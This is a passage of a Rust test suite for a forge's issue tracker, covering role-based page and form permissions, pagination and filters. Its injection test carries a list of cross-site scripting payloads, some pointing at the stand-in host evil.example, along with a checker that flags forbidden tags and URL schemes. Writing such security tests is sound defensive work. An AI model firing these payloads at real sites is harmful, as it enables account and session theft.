//! The issue tracker's pages, driven like a browser without JavaScript:
//! who sees which page and which form, what each form changes (and what it
//! refuses to change), script injection through every text people type,
//! filters and keyset pages, references, the timeline, comments, labels,
//! milestones, and both languages. Each test runs on each engine.

use forge_core::comment;
use forge_core::commit_refs::{self, PushedCommit};
use forge_core::issue::{self, IssueChanges, NewIssue};
use forge_core::label::{self, LabelInput};
use forge_core::milestone::{self, MilestoneInput};
use forge_core::org::{self, NewOrg, OrgKind, Role};
use forge_core::repo::{NewRepo, Repo};
use forge_core::user::User;
use forge_tests::{Browser, Page, TestForge};
use reqwest::StatusCode;

// ---------------------------------------------------------------------------
// The world of each test

/// An organisation `coop` owned by `boss`, with a maintainer `maint`, two
/// members (`member` reads, `author` reads and writes issues), an
/// `outsider`, and two repositories: `coop/open` (public) and
/// `coop/secret` (private).
struct World {
    forge: TestForge,
    maint: User,
    member: User,
    author: User,
    open: Repo,
    secret: Repo,
}

async fn make_repo(forge: &TestForge, owner: &User, name: &str, private: bool) -> Repo {
    let storage = forge.storage.clone();
    forge_core::repo::create(
        &forge.db,
        owner,
        "coop",
        NewRepo {
            name: name.into(),
            description: format!("The {name} repository"),
            private,
            default_branch: None,
        },
        async |repo: &Repo| {
            storage
                .create(repo.id.0, &repo.default_branch)
                .map_err(|e| forge_core::Error::Internal(e.to_string()))
        },
    )
    .await
    .expect("creating a repository")
}

async fn world(forge: TestForge) -> World {
    let boss = forge.user("boss", false).await;
    let maint = forge.user("maint", false).await;
    let member = forge.user("member", false).await;
    let author = forge.user("author", false).await;
    forge.user("outsider", false).await;
    let coop = org::create(
        &forge.db,
        &boss,
        NewOrg {
            name: "coop".into(),
            full_name: "The Cooperative".into(),
            description: String::new(),
            kind: OrgKind::Cooperative,
            website: String::new(),
        },
    )
    .await
    .expect("creating the organisation");
    for (name, role) in [
        ("maint", Role::Maintainer),
        ("member", Role::Member),
        ("author", Role::Member),
    ] {
        org::set_member(&forge.db, &boss, &coop, name, role)
            .await
            .expect("adding a member");
    }
    let open = make_repo(&forge, &boss, "open", false).await;
    let secret = make_repo(&forge, &boss, "secret", true).await;
    World {
        forge,
        maint,
        member,
        author,
        open,
        secret,
    }
}

impl World {
    /// A browser signed in as `name`, or anonymous (with a CSRF cookie,
    /// as after visiting any page).
    async fn browser(&self, name: Option<&str>, lang: &str) -> Browser {
        let mut browser = Browser::new(&self.forge, lang);
        match name {
            Some(name) => {
                let page = browser.sign_in(name).await;
                assert_eq!(page.status, StatusCode::SEE_OTHER, "signing in {name}");
            }
            None => {
                browser.get("/").await;
            }
        }
        browser
    }

    async fn issue(&self, repo: &Repo, by: &User, title: &str, body: &str) -> i64 {
        issue::create(
            &self.forge.db,
            by,
            repo,
            NewIssue {
                title: title.into(),
                body: body.into(),
                ..NewIssue::default()
            },
        )
        .await
        .expect("opening an issue")
        .number
    }

    async fn get_issue(&self, repo: &Repo, number: i64) -> issue::Issue {
        issue::get(&self.forge.db, repo.id, number)
            .await
            .expect("reading an issue")
            .expect("the issue exists")
    }
}

// ---------------------------------------------------------------------------
// Reading pages

/// The attributes of every tag of `html`, lowercased names, raw values.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut out = Vec::new();
    let bytes = html.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'<' {
            i += 1;
            continue;
        }
        if html[i..].starts_with("<!--") {
            i = html[i..].find("-->").map_or(bytes.len(), |e| i + e + 3);
            continue;
        }
        let mut j = i + 1;
        while j < bytes.len() && (bytes[j].is_ascii_alphanumeric() || bytes[j] == b'/') {
            j += 1;
        }
        let name = html[i + 1..j].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            while j < bytes.len() && (bytes[j].is_ascii_whitespace() || bytes[j] == b'/') {
                j += 1;
            }
            if j >= bytes.len() || bytes[j] == b'>' {
                break;
            }
            let start = j;
            while j < bytes.len()
                && !bytes[j].is_ascii_whitespace()
                && !matches!(bytes[j], b'=' | b'>')
            {
                j += 1;
            }
            let attr = html[start..j].to_ascii_lowercase();
            let mut value = String::new();
            if j < bytes.len() && bytes[j] == b'=' {
                j += 1;
                if j < bytes.len() && (bytes[j] == b'"' || bytes[j] == b'\'') {
                    let quote = bytes[j];
                    let end = html[j + 1..]
                        .find(quote as char)
                        .map_or(bytes.len(), |e| j + 1 + e);
                    value = html[j + 1..end].to_string();
                    j = end + 1;
                } else {
                    let start = j;
                    while j < bytes.len() && !bytes[j].is_ascii_whitespace() && bytes[j] != b'>' {
                        j += 1;
                    }
                    value = html[start..j].to_string();
                }
            }
            attrs.push((attr, value));
        }
        out.push((name, attrs));
        i = j + 1;
    }
    out
}

/// Decodes the character references a browser would decode in an
/// attribute value.
fn decode(value: &str) -> String {
    let mut out = String::new();
    let mut rest = value;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let end = rest.find(';').unwrap_or(0);
        let entity = &rest[1..end.max(1)];
        let decoded = match entity {
            "amp" => Some('&'),
            "lt" => Some('<'),
            "gt" => Some('>'),
            "quot" => Some('"'),
            "colon" => Some(':'),
            e if e.starts_with("#x") || e.starts_with("#X") => u32::from_str_radix(&e[2..], 16)
                .ok()
                .and_then(char::from_u32),
            e if e.starts_with('#') => e[1..].parse().ok().and_then(char::from_u32),
            _ => None,
        };
        match decoded {
            Some(c) if end > 0 => {
                out.push(c);
                rest = &rest[end + 1..];
            }
            _ => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// The one script of every page, the forge's own (it adds "Copy" buttons):
/// the only script a page may hold, once.
const OWN_SCRIPT: &str = "<script src=\"/-/assets/copy.js\" defer></script>";

/// The page without the forge's own script, for checks that no other script
/// came in.
fn without_own_script(html: &str) -> String {
    html.replacen(OWN_SCRIPT, "", 1)
}

/// Asserts that nothing in `html` can run a script, load a frame or send
/// a form anywhere but to this forge's own pages.
fn assert_inert(page: &Page, what: &str) {
    let html = &without_own_script(&page.body);
    for (name, attrs) in tags(html) {
        for forbidden in [
            "script", "iframe", "frame", "frameset", "object", "embed", "svg", "math", "style",
            "base", "template", "video", "audio", "source", "body", "isindex", "applet",
        ] {
            // The page's own <body> is the one exception.
            if name == forbidden && !(name == "body" && attrs.is_empty()) {
                panic!("{what}: a <{name}> element survived: {attrs:?}");
            }
        }
        if name == "meta" || name == "link" {
            for (attr, value) in &attrs {
                assert!(
                    !(attr == "http-equiv" || (attr == "href" && !value.starts_with('/'))),
                    "{what}: <{name} {attr}={value}>"
                );
            }
        }
        for (attr, value) in &attrs {
            assert!(!attr.starts_with("on"), "{what}: <{name} {attr}={value:?}>");
            assert!(attr != "style", "{what}: <{name} style={value:?}>");
            assert!(
                attr != "srcdoc" && attr != "formaction",
                "{what}: <{name} {attr}>"
            );
            if matches!(attr.as_str(), "href" | "src" | "action" | "data" | "poster") {
                let url: String = decode(value)
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect::<String>()
                    .to_ascii_lowercase();
                for scheme in ["javascript:", "data:", "vbscript:"] {
                    assert!(
                        !url.starts_with(scheme),
                        "{what}: <{name} {attr}={value:?}>"
                    );
                }
            }
        }
        if name == "form" {
            let action = attrs
                .iter()
                .find(|(a, _)| a == "action")
                .map(|(_, v)| decode(v))
                .unwrap_or_default();
            // The forge's own forms post to its own pages; none may come
            // from what people type (the sanitiser drops them all).
            let ours = action.starts_with('/') && !action.starts_with("//");
            assert!(ours, "{what}: a form posts to {action:?}");
        }
    }
}

/// The text a person reads (tags removed).
fn visible_text(html: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    for c in html.chars() {
        match c {
            '<' => in_tag = true,
            '>' => {
                in_tag = false;
                out.push(' ');
            }
            _ if !in_tag => out.push(c),
            _ => {}
        }
    }
    out
}

/// Asserts that no catalogue key shows instead of its message.
fn assert_no_raw_keys(page: &Page, what: &str) {
    let text = visible_text(&page.body);
    for word in text.split_whitespace() {
        for prefix in [
            "issue-",
            "issues-",
            "labels-",
            "milestones-",
            "error-",
            "code-",
            "funding-",
        ] {
            let raw = word
                .strip_prefix(prefix)
                .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_lowercase()));
            assert!(!raw, "{what}: a raw catalogue key shows: {word:?}");
        }
    }
}

/// The issue numbers listed on a list page, in order.
fn listed(page: &Page, repo: &str) -> Vec<i64> {
    let Some(start) = page.body.find("<ul class=\"issue-list\">") else {
        return Vec::new();
    };
    let end = page.body[start..]
        .find("</ul>")
        .map_or(page.body.len(), |e| start + e);
    let marker = format!("href=\"/{repo}/issues/");
    page.body[start..end]
        .match_indices(&marker)
        .filter_map(|(at, _)| {
            let rest = &page.body[start + at + marker.len()..];
            let digits: String = rest.chars().take_while(char::is_ascii_digit).collect();
            rest[digits.len()..]
                .starts_with('"')
                .then(|| digits.parse().ok())
                .flatten()
        })
        .collect()
}

/// The "Next page" address of a list page.
fn next_page(page: &Page) -> Option<String> {
    let at = page.body.find("rel=\"next\"")?;
    let before = &page.body[..at];
    let href_at = before.rfind("href=\"")? + 6;
    let end = before[href_at..].find('"')? + href_at;
    Some(decode(&before[href_at..end]))
}

fn has_form(page: &Page, action: &str) -> bool {
    page.body.contains(&format!("action=\"{action}\""))
}

// ---------------------------------------------------------------------------
// Permissions

/// What a repository and its issue #1 look like, to tell whether a refused
/// request changed anything.
async fn fingerprint(w: &World, repo: &Repo) -> String {
    let db = &w.forge.db;
    let found = w.get_issue(repo, 1).await;
    let labels: Vec<String> = issue::labels_of(db, found.id)
        .await
        .expect("reading the state")
        .into_iter()
        .map(|l| l.name)
        .collect();
    let comments: Vec<(String, bool)> = comment::list(db, found.id)
        .await
        .expect("reading the state")
        .into_iter()
        .map(|c| (c.body, c.hidden))
        .collect();
    let repo_labels: Vec<(String, String)> = label::list(db, repo.id)
        .await
        .expect("reading the state")
        .into_iter()
        .map(|l| (l.name, l.color))
        .collect();
    let milestones: Vec<(String, bool)> = milestone::list(db, repo.id)
        .await
        .expect("reading the state")
        .into_iter()
        .map(|m| (m.title, m.closed))
        .collect();
    format!(
        "{:?} {:?} {} {} {:?} {:?} {:?} {:?} {:?} {:?} {:?}",
        found.title,
        found.body,
        found.closed,
        found.locked,
        found.milestone_id,
        labels,
        issue::assignees_of(db, found.id)
            .await
            .expect("reading the state"),
        comments,
        repo_labels,
        milestones,
        issue::issue_counts(db, repo.id)
            .await
            .expect("reading the state"),
    )
}

#[tokio::test]
async fn every_page_and_form_follows_the_permissions() {
    for forge in TestForge::on_each_engine().await {
        let w = world(forge).await;
        let db = w.forge.db.clone();
        for repo in [&w.open, &w.secret] {
            let n = w
                .issue(repo, &w.author, "Printing fails", "It fails.")
                .await;
            assert_eq!(n, 1);
            let found = w.get_issue(repo, 1).await;
            comment::create(&db, &w.author, repo, &found, "Author's comment")
                .await
                .unwrap();
            comment::create(&db, &w.maint, repo, &found, "Maintainer's comment")
                .await
                .unwrap();
            label::create(
                &db,
                &w.maint,
                repo,
                LabelInput {
                    name: "bug".into(),
                    color: "#d73a4a".into(),
                    description: String::new(),
                },
            )
            .await
            .unwrap();
            milestone::create(
                &db,
                &w.maint,
                repo,
                MilestoneInput {
                    title: "v1".into(),
                    ..MilestoneInput::default()
                },
            )
            .await
            .unwrap();
        }

        for (actor, name) in [
            ("anonymous", None),
            ("outsider", Some("outsider")),
            ("reader", Some("member")),
            ("author", Some("author")),
            ("maintainer", Some("maint")),
        ] {
            let mut b = w.browser(name, "en").await;
            for repo in [&w.open, &w.secret] {
                let full = repo.full_name();
                let sees = !repo.private || matches!(actor, "reader" | "author" | "maintainer");
                let signed_in = name.is_some();
                let maintains = actor == "maintainer";
                let edits = matches!(actor, "author" | "maintainer");
                let what = |page: &str| format!("{actor} on {full}{page}");

                // Reading.
                for page in ["/issues", "/issues/1", "/labels", "/milestones"] {
                    let got = b.get(&format!("/{full}{page}")).await;
                    let expected = if sees {
                        StatusCode::OK
                    } else {
                        StatusCode::NOT_FOUND
                    };
                    assert_eq!(got.status, expected, "{}", what(page));
                    if sees {
                        assert_inert(&got, &what(page));
                    } else {
                        assert!(!got.contains("Printing fails"), "{}", what(page));
                    }
                }
                let new = b.get(&format!("/{full}/issues/new")).await;
                match (signed_in, sees) {
                    (false, _) => {
                        assert_eq!(new.status, StatusCode::SEE_OTHER, "{}", what("/issues/new"));
                        assert!(
                            new.location
                                .as_deref()
                                .unwrap_or("")
                                .starts_with("/user/login")
                        );
                    }
                    (true, false) => assert_eq!(new.status, StatusCode::NOT_FOUND),
                    (true, true) => {
                        assert_eq!(new.status, StatusCode::OK);
                        assert!(has_form(&new, &format!("/{full}/issues")));
                        // Only maintainers choose labels, milestone and assignees.
                        assert_eq!(
                            new.contains("name=\"assignees\""),
                            maintains,
                            "{}",
                            what("/issues/new")
                        );
                    }
                }
                if !sees {
                    // Every form is refused, and nothing changes.
                    let before = fingerprint(&w, repo).await;
                    for (path, fields) in attempts(&full) {
                        let got = b.post(&path, &fields).await;
                        let refused = if signed_in {
                            got.status == StatusCode::NOT_FOUND
                        } else {
                            got.status == StatusCode::SEE_OTHER
                                && got
                                    .location
                                    .as_deref()
                                    .unwrap_or("")
                                    .starts_with("/user/login")
                        };
                        assert!(refused, "{} may not post {path}: {}", actor, got.status);
                    }
                    assert_eq!(fingerprint(&w, repo).await, before, "{}", what(""));
                    continue;
                }

                let list = b.get(&format!("/{full}/issues")).await;
                assert!(list.contains("Printing fails"), "{}", what("/issues"));
                assert_eq!(
                    list.contains(&format!("href=\"/{full}/issues/new\"")),
                    signed_in,
                    "{}",
                    what("/issues")
                );
                let page = b.get(&format!("/{full}/issues/1")).await;
                let base = format!("/{full}/issues/1");
                assert_eq!(
                    has_form(&page, &format!("{base}/comments")),
                    signed_in,
                    "{}",
                    what(" comment form")
                );
                assert_eq!(
                    page.contains("Sign in to comment"),
                    !signed_in,
                    "{}",
                    what("")
                );
                assert_eq!(
                    has_form(&page, &format!("{base}/edit")),
                    edits,
                    "{}",
                    what(" edit form")
                );
                assert_eq!(
                    has_form(&page, &format!("{base}/state")),
                    edits,
                    "{}",
                    what(" state form")
                );
                for form in ["labels", "milestone", "assignees", "lock"] {
                    assert_eq!(
                        has_form(&page, &format!("{base}/{form}")),
                        maintains,
                        "{}",
                        what(&format!(" {form} form"))
                    );
                }
                // Hiding is for maintainers; editing one's own comment only.
                assert_eq!(page.contains("/hide\""), maintains, "{}", what(" hide"));
                let own_edits = page.body.matches("/comments/").count() > 0
                    && page.body.contains("Edit this comment");
                assert_eq!(
                    own_edits,
                    matches!(actor, "author" | "maintainer"),
                    "{}",
                    what(" edit comment")
                );
                for page_path in ["/labels", "/milestones"] {
                    let got = b.get(&format!("/{full}{page_path}")).await;
                    assert_eq!(
                        has_form(&got, &format!("/{full}{page_path}")),
                        maintains,
                        "{}",
                        what(page_path)
                    );
                }

                // Changing: whatever the page does not offer is refused.
                if !maintains {
                    let before = fingerprint(&w, repo).await;
                    for (path, fields) in attempts(&full) {
                        let allowed = (edits
                            && (path.ends_with("/edit") && path.contains("/issues/1/edit")))
                            || (edits && path.ends_with("/state"))
                            || (signed_in && path.ends_with("/issues/1/comments"))
                            || (signed_in && path.ends_with(&format!("/{full}/issues")))
                            || (actor == "author" && path.contains("/comments/1/"));
                        if allowed {
                            continue;
                        }
                        let got = b.post(&path, &fields).await;
                        // Forbidden, or not found when the thing named
                        // belongs to the other repository.
                        let refused = if signed_in {
                            got.status == StatusCode::FORBIDDEN
                                || got.status == StatusCode::NOT_FOUND
                        } else {
                            got.status == StatusCode::SEE_OTHER
                                && got
                                    .location
                                    .as_deref()
                                    .unwrap_or("")
                                    .starts_with("/user/login")
                        };
                        assert!(
                            refused,
                            "{} may not post {path}: {} {:?}",
                            actor, got.status, got.location
                        );
                    }
                    assert_eq!(
                        fingerprint(&w, repo).await,
                        before,
                        "{}",
                        what(" after refusals")
                    );
                }
            }
        }

        // The delete confirmation is for the comment's author and maintainers.
        for (name, status) in [("member", 403), ("author", 200), ("maint", 200)] {
            let mut b = w.browser(Some(name), "en").await;
            let got = b.get("/coop/open/issues/1/comments/1/delete").await;
            assert_eq!(got.status.as_u16(), status, "{name}");
        }
        // An issue or comment that does not exist, or a number that is not
        // one, is "not found".
        let mut b = w.browser(Some("maint"), "en").await;
        for path in [
            "/coop/open/issues/99",
            "/coop/open/issues/x",
            "/coop/open/issues/0",
            "/coop/open/issues/1/comments/999/delete",
        ] {
            assert_eq!(b.get(path).await.status, StatusCode::NOT_FOUND, "{path}");
        }
        // A form without the CSRF token changes nothing.
        let before = fingerprint(&w, &w.open).await;
        let got = b
            .post_raw("/coop/open/issues/1/lock", &[("locked", "1")])
            .await;
        assert_eq!(got.status, StatusCode::FORBIDDEN);
        assert_eq!(fingerprint(&w, &w.open).await, before);
    }
}

/// One attempt at every form of `coop/{repo}` (issue 1, comment 1 by the
/// author, label and milestone 1 of whichever repository).
fn attempts(full: &str) -> Vec<(String, Vec<(&'static str, &'static str)>)> {
    let i = format!("/{full}/issues/1");
    let r = format!("/{full}");
    vec![
        (
            format!("{r}/issues"),
            vec![("title", "Intruder"), ("body", "x")],
        ),
        (
            format!("{i}/edit"),
            vec![("title", "Renamed"), ("body", "changed")],
        ),
        (
            format!("{i}/state"),
            vec![("action", "close"), ("reason", "completed")],
        ),
        (format!("{i}/labels"), vec![("label", "1"), ("label", "2")]),
        (format!("{i}/milestone"), vec![("milestone", "1")]),
        (format!("{i}/assignees"), vec![("assignees", "member")]),
        (format!("{i}/lock"), vec![("locked", "1")]),
        (format!("{i}/comments"), vec![("body", "Intruding comment")]),
        (format!("{i}/comments/1/edit"), vec![("body", "Rewritten")]),
        (format!("{i}/comments/1/hide"), vec![("hidden", "1")]),
        (format!("{i}/comments/1/delete"), vec![]),
        (
            format!("{r}/labels"),
            vec![("name", "new"), ("color", "#00ff00")],
        ),
        (
            format!("{r}/labels/1/edit"),
            vec![("name", "renamed"), ("color", "#00ff00")],
        ),
        (
            format!("{r}/labels/2/edit"),
            vec![("name", "renamed"), ("color", "#00ff00")],
        ),
        (format!("{r}/labels/1/delete"), vec![]),
        (format!("{r}/labels/2/delete"), vec![]),
        (format!("{r}/milestones"), vec![("title", "v2")]),
        (format!("{r}/milestones/1/edit"), vec![("title", "v9")]),
        (format!("{r}/milestones/2/edit"), vec![("title", "v9")]),
        (format!("{r}/milestones/1/state"), vec![("closed", "1")]),
        (format!("{r}/milestones/2/state"), vec![("closed", "1")]),
        (format!("{r}/milestones/1/delete"), vec![]),
        (format!("{r}/milestones/2/delete"), vec![]),
    ]
}

// ---------------------------------------------------------------------------
// Script injection

const INJECTIONS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<form action=\"https://evil.example\"><input name=p><button>Go</button></form>",
    "<style>body{display:none}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "#1\"><script>alert(1)</script> @x\"onmouseover=alert(1)",
];

#[tokio::test]
async fn nothing_anyone_types_can_run_a_script() {
    for forge in TestForge::on_each_engine().await {
        let w = world(forge).await;
        let db = w.forge.db.clone();
        let repo = &w.open;
        let every = INJECTIONS.join("\n\n");
        let evil_label = label::create(
            &db,
            &w.maint,
            repo,
            LabelInput {
                name: "<img src=x onerror=alert(1)>".into(),
                color: "#123456".into(),
                description: "\"><script>alert(1)</script>".into(),
            },
        )
        .await
        .unwrap();
        let evil_milestone = milestone::create(
            &db,
            &w.maint,
            repo,
            MilestoneInput {
                title: "<script>alert('m')</script>".into(),
                description: every.clone(),
                due_at: None,
                closed: false,
            },
        )
        .await
        .unwrap();
        let mut numbers = Vec::new();
        for (i, attempt) in INJECTIONS.iter().enumerate() {
            let created = issue::create(
                &db,
                &w.maint,
                repo,
                NewIssue {
                    title: attempt.to_string(),
                    body: every.clone(),
                    labels: vec![evil_label.id],
                    assignees: vec!["member".into()],
                    milestone: Some(evil_milestone.id),
                },
            )
            .await
            .unwrap();
            comment::create(&db, &w.author, repo, &created, attempt)
                .await
                .unwrap();
            let hidden = comment::create(&db, &w.member, repo, &created, attempt)
                .await
                .unwrap();
            comment::set_hidden(&db, &w.maint, repo, &created, hidden.id, true)
                .await
                .unwrap();
            // A rename puts the old and new titles in the timeline.
            issue::update(
                &db,
                &w.maint,
                repo,
                &created,
                IssueChanges {
                    title: Some(format!("{attempt} ({i})")),
                    ..IssueChanges::default()
                },
            )
            .await
            .unwrap();
            numbers.push(created.number);
        }
        // Through the forms too: a new issue and a comment.
        let mut maint = w.browser(Some("maint"), "en").await;
        let got = maint
            .post(
                "/coop/open/issues",
                &[("title", INJECTIONS[0]), ("body", &every)],
            )
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        let got = maint
            .post("/coop/open/issues/1/comments", &[("body", &every)])
            .await;
        assert_eq!(got.status, StatusCode::SEE_OTHER);
        // Failed forms echo what was typed.
        let got = maint
            .post(
                "/coop/open/labels",
                &[("name", INJECTIONS[2]), ("color", INJECTIONS[0])],
            )
            .await;
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_inert(&got, "a failed label form");
        let got = maint
            .post(
                "/coop/open/issues/1/edit",
                &[("title", ""), ("body", &every)],
            )
            .await;
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_inert(&got, "a failed edit form");
        let got = maint
            .post(
                "/coop/open/milestones",
                &[("title", INJECTIONS[1]), ("due", INJECTIONS[0])],
            )
            .await;
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_inert(&got, "a failed milestone form");

        let evil_query = format!(
            "/coop/open/issues?state=all&q={}&assignee=%22%3E%3Cscript%3E&milestone=%3Cscript%3E&label=1",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E"
        );
        for name in [None, Some("member"), Some("maint")] {
            let mut b = w.browser(name, "en").await;
            let mut pages = vec![
                "/coop/open/issues".to_string(),
                "/coop/open/issues?state=all".to_string(),
                evil_query.clone(),
                "/coop/open/labels".to_string(),
                "/coop/open/milestones".to_string(),
                "/coop/open/issues/new".to_string(),
                "/coop/open/issues/1/comments/1/delete".to_string(),
            ];
            pages.extend(numbers.iter().map(|n| format!("/coop/open/issues/{n}")));
            for path in pages {
                let got = b.get(&path).await;
                if got.status == StatusCode::OK {
                    assert_inert(&got, &format!("{path} for {name:?}"));
                    assert!(!without_own_script(&got.body).contains("<script"), "{path}");
                }
            }
        }
        // The text is kept as typed and shown escaped, not dropped.
        let page = maint
            .get(&format!("/coop/open/issues/{}", numbers[0]))
            .await;
        assert!(
            page.contains("&#60;script&#62;alert(1)&#60;/script&#62;"),
            "the title shows as text"
        );
        // The label stylesheet takes colours only.
        let css = w
            .forge
            .at("/-/assets/labels.css?c=123456.%3C%2Fstyle%3E.zzzzzz.ABCDEF.000000");
        let got = forge_tests::http().get(css).send().await.unwrap();
        assert_eq!(
            got.headers()["content-type"].to_str().unwrap(),
            "text/css; charset=utf-8"
        );
        let css = got.text().await.unwrap();
        assert!(
            css.contains(".lc-123456{background-color:#123456;color:#ffffff;}"),
            "{css}"
        );
        assert!(css.contains(".lc-000000{"), "{css}");
        assert!(
            !css.contains("style") && !css.contains("zzzzzz") && !css.contains("ABCDEF"),
            "{css}"
        );
    }
}

// ---------------------------------------------------------------------------
// Filters, pages, references

#[tokio::test]
async fn filters_and_keyset_pages_work_without_javascript() {
    for forge in TestForge::on_each_engine().await {
        let w = world(forge).await;
        let db = w.forge.db.clone();
        let repo = &w.open;
        let mut labels = Vec::new();
        for (name, color) in [("bug", "#d73a4a"), ("ui", "#0e8a16")] {
            labels.push(
                label::create(
                    &db,
                    &w.maint,
                    repo,
                    LabelInput {
                        name: name.into(),
                        color: color.into(),
                        description: String::new(),
                    },
                )
                .await
                .unwrap(),
            );
        }
        let v1 = milestone::create(
            &db,
            &w.maint,
            repo,
            MilestoneInput {
                title: "v1".into(),
                ..MilestoneInput::default()
            },
        )
        .await
        .unwrap();
        let total = 60;
        for i in 1..=total {
            let by = if i % 3 == 0 { &w.member } else { &w.author };
            let mut chosen = Vec::new();
            if i % 2 == 0 {
                chosen.push(labels[0].id);
            }
            if i % 3 == 0 {
                chosen.push(labels[1].id);
            }
            let body = if i % 4 == 0 { "cc @maint" } else { "nothing" };
            let created = issue::create(
                &db,
                by,
                repo,
                NewIssue {
                    title: format!("Issue {i} {}", if i % 2 == 0 { "alpha" } else { "beta" }),
                    body: body.into(),
                    ..NewIssue::default()
                },
            )
            .await
            .unwrap();
            let changes = IssueChanges {
                milestone: (i % 5 == 0).then_some(Some(v1.id)),
                assignees: (i % 7 == 0).then(|| vec!["member".to_string()]),
                state: (i % 10 == 0).then_some(Some(issue::CloseReason::Completed)),
                ..IssueChanges::default()
            };
            issue::update(&db, &w.maint, repo, &created, changes)
                .await
                .unwrap();
            issue::set_labels(&db, &w.maint, repo, &created, &chosen)
                .await
                .unwrap();
        }
        let open: Vec<i64> = (1..=total).rev().filter(|i| i % 10 != 0).collect();
        let mut b = w.browser(None, "en").await;

        // Page after page through "Next page", newest first.
        let mut seen = Vec::new();
        let mut path = "/coop/open/issues".to_string();
        let mut pages = 0;
        loop {
            let page = b.get(&path).await;
            assert_eq!(page.status, StatusCode::OK, "{path}");
            let numbers = listed(&page, "coop/open");
            assert!(numbers.len() <= 25);
            seen.extend(numbers);
            pages += 1;
            match next_page(&page) {
                Some(next) => {
                    assert!(next.contains("after="), "{next}");
                    assert!(!next.contains("page="), "{next}");
                    path = next;
                }
                None => break,
            }
        }
        assert_eq!(seen, open);
        assert_eq!(pages, 3);
        // The tabs count from the stored counters.
        let first = b.get("/coop/open/issues").await;
        assert!(first.contains("Open (54)"), "open tab");
        assert!(first.contains("Closed (6)"), "closed tab");
        assert!(!first.contains("First page"));
        let second = b.get(next_page(&first).unwrap().as_str()).await;
        assert!(second.contains("First page"));
        // Every filter of the form, by GET.
        let (bug, ui) = (labels[0].id.0, labels[1].id.0);
        type Wanted = Box<dyn Fn(i64) -> bool>;
        let cases: Vec<(String, Wanted)> = vec![
            (format!("label={bug}&label={ui}"), Box::new(|i| i % 6 == 0)),
            (format!("label={bug}"), Box::new(|i| i % 2 == 0)),
            (format!("milestone={}", v1.id.0), Box::new(|i| i % 5 == 0)),
            ("milestone=none".into(), Box::new(|i| i % 5 != 0)),
            ("assignee=member".into(), Box::new(|i| i % 7 == 0)),
            ("author=member".into(), Box::new(|i| i % 3 == 0)),
            ("mentioned=maint".into(), Box::new(|i| i % 4 == 0)),
            ("q=alpha".into(), Box::new(|i| i % 2 == 0)),
            ("q=issue+alpha".into(), Box::new(|i| i % 2 == 0)),
        ];
        for (query, wanted) in &cases {
            let mut seen = Vec::new();
            let mut path = format!("/coop/open/issues?state=open&{query}");
            loop {
                let page = b.get(&path).await;
                assert_eq!(page.status, StatusCode::OK);
                seen.extend(listed(&page, "coop/open"));
                match next_page(&page) {
                    Some(next) => {
                        // The next page keeps the filters.
                        assert!(next.contains(query.split('&').next().unwrap()), "{next}");
                        path = next;
                    }
                    None => break,
                }
            }
            let expected: Vec<i64> = open.iter().copied().filter(|i| wanted(*i)).collect();
            assert_eq!(seen, expected, "{query}");
        }
        // Closed ones, oldest first; sorted by comments.
        let page = b.get("/coop/open/issues?state=closed&sort=oldest").await;
        assert_eq!(listed(&page, "coop/open"), vec![10, 20, 30, 40, 50, 60]);
        assert!(page.contains("<option value=\"oldest\" selected>"));
        let page = b
            .get("/coop/open/issues?state=closed&sort=mostcomment")
            .await;
        assert_eq!(listed(&page, "coop/open").len(), 6);
        // The form shows what is chosen.
        let page = b
            .get(&format!(
                "/coop/open/issues?label={bug}&milestone=none&q=alpha"
            ))
            .await;
        assert!(page.contains(&format!("value=\"{bug}\" checked")));
        assert!(page.contains("<option value=\"none\" selected>"));
        assert!(page.contains("value=\"alpha\""));
        assert!(page.contains("Clear the filters"));
        // Names that name nobody: said next to the field, nothing listed.
        let page = b.get("/coop/open/issues?assignee=nobody").await;
        assert_eq!(page.status, StatusCode::OK);
        assert!(page.contains("Nobody is called “nobody”."));
        assert!(page.contains("aria-invalid=\"true\""));
        assert!(page.contains("No issue matches these filters."));
        assert!(listed(&page, "coop/open").is_empty());
        // Unknown labels or milestones match nothing; nonsense is ignored.
        let page = b.get("/coop/open/issues?label=999").await;
        assert!(listed(&page, "coop/open").is_empty());
        let page = b.get("/coop/open/issues?milestone=999").await;
        assert!(listed(&page, "coop/open").is_empty());
        let page = b
            .get("/coop/open/issues?sort=bogus&state=bogus&q=%00")
            .await;
